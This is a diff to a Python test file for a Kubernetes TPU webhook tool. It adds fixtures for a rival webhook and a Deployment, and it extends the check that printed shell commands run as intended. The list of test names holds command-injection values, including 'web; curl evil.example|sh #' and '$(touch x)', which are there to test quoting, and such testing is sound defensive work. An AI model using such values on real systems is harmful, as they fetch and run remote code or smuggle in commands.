@@ -66,11 +66,16 @@ def cluster(owner, everywhere=True):
     web = {"apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration",
            "metadata": {"name": "tpu-webhook"},
            "webhooks": [{"name": owner, "clientConfig": {"service": {"name": owner, "namespace": ns}}}]}
+    rival = {**web, "metadata": {"name": "kuberay-tpu-webhook"}}
+    settings = {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "tpu-webhook", "namespace": ns},
+                "spec": {"template": {"spec": {"serviceAccountName": owner, "priorityClassName": owner, "containers": [
+                    {"name": "tpu-webhook", "args": [f"--workloads=ray,{owner}}}',{owner},job"]}]}}}}
     # Of the slice of `alone-0` a member is missing: once, since twice it would be a member that is there twice.
     alone = [pod("alone-0", 0, owner, uid="v")] if everywhere else []
     return [*alone, pod("web-0", 0, owner), pod(other, 1, owner, ns), bound, pod("twin-0", 0, owner),
             pod("kind-0", 0, owner, kind=owner), node(other, other, taints=[{"key": owner, "effect": "NoSchedule"}]),
-            node("n-2", "pool", unschedulable=True), ledger, whole, web,
+            node("n-2", "pool", unschedulable=True), ledger, whole, web, rival,
+            settings,
             {"kind": owner, "metadata": {"name": owner, "namespace": ns}}]
 
 
@@ -177,7 +182,7 @@ def run_by_a_shell(command):
 
 NAMES = [NASTY, QUOTES, "job; touch x #", "a b", "a,b=c\\", "-rf", "--all", "web; curl evil.example|sh #",
          "$(touch x)", "`touch y`", "it's", "POD", "a/b", "train"]
-WITH_COMMANDS = [case for case in CASES if case[0] in ("audit", "explain") and case[2] == "text"]
+WITH_COMMANDS = [case for case in CASES if case[0] in ("audit", "explain", "doctor") and case[2] == "text"]
 
 
 def commands_do_what_is_meant(name):
@@ -186,7 +191,8 @@ def commands_do_what_is_meant(name):
         for command in commands_in(printed(case, name)):
             found += 1
             for argv in run_by_a_shell(command):
-                verbs = {"get", "delete", "describe", "patch", "uncordon", "taint", "edit", "container", "apply"}
+                verbs = {"get", "delete", "describe", "patch", "uncordon", "taint", "edit", "container", "apply",
+                         "install", "logs", "upgrade"}
                 assert verbs & set(argv), (command, argv)
     assert found or name == NASTY, name
 
